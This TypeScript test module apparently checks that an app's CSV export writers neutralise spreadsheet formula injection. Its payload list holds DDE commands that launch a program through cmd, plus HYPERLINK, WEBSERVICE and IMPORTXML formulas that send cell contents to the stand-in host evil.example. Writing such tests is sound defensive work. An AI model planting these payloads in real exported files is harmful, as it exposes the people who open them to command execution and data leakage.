import { readFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { z } from "zod";
import type { Measured } from "../trust/promises";
import { productFiles } from "./patterns/collect";

/** What a spreadsheet runs, or takes for the beginning of something to run. */
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"Open")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"!A0")',
  "2+5+cmd|' /C calc'!A0",
  "",
  "a",
];
const AROUND: readonly ((cell: string) => string)[] = [
  (cell) => cell,
  (cell) => ` ${cell}`,
  (cell) => `\t${cell}`,
  (cell) => `\r\n${cell}`,
  (cell) => `\uFEFF${cell}`,
  (cell) => `\u00a0${cell}`,
  (cell) => `${cell}"\r\n${cell}`,
  (cell) => `${cell}",${cell}`,
  (cell) => `${cell}\n`,
];
/** By file; each has its `asCsv`. */
const WRITERS = ["app/_ui/data/as-csv.ts", "lib/exports/tables/rules.ts"];
const writerShape = z.object({
  asCsv: z.custom<(rows: readonly (readonly string[])[], isFirst: boolean) => string>(
    (value) => value instanceof Function,
  ),
});
const NUMBER = /^[+-]?\d+(\.\d+)?%?$/;

/** Puts cells that a spreadsheet would run into every CSV that the app writes, and looks for one that still begins so. */
export async function attackCells(root: string): Promise<Measured> {
  const cells = STARTS.flatMap((start) => BODIES.flatMap((body) => AROUND.map((around) => around(start + body))));
  const live: string[] = [];
  const lost: string[] = [];
  for (const file of WRITERS) {
    const { asCsv } = writerShape.parse(await import(pathToFileURL(path.join(root, file)).href));
    const read = cellsOf(asCsv([cells], true));
    if (read.length !== cells.length) lost.push(`${file} tears a table`);
    live.push(...read.filter(isRun).map((cell) => `${file}: ${JSON.stringify(cell)}`));
  }
  const unknown = writersOf(root).filter((file) => !WRITERS.includes(file));
  for (const line of [...live, ...lost, ...unknown].slice(0, 10)) process.stdout.write(`  ${line}\n`);
  const all = cells.length * WRITERS.length;
  return {
    promise: `Cells that a spreadsheet would run, ${cells.length} in ${WRITERS.length} writers`,
    promised: "100 % neutralised",
    reached: `${(100 * (1 - live.length / all)).toFixed(1)} %, ${lost.length} tables torn, ${unknown.length} writers not asked`,
    isKept: live.length + lost.length + unknown.length === 0,
  };
}

const isRun = (cell: string) => STARTS.some((start) => cell.trim().startsWith(start)) && !NUMBER.test(cell.trim());

/** The files that write CSV by themselves: they use the library, or double a quote. */
function writersOf(root: string): readonly string[] {
  return productFiles(root)
    .filter((file) => /csv-stringify|replaceAll\('"', '""'\)|replace\(\/"\/g, '""'\)/.test(readFileSync(file, "utf8")))
    .map((file) => path.relative(root, file));
}

/** The cells of a CSV with quotes, as a spreadsheet reads them. */
function cellsOf(csv: string): readonly string[] {
  return [...csv.replace(/^\uFEFF/, "").matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = ""]) =>
    cell.replaceAll('""', '"'),
  );
}
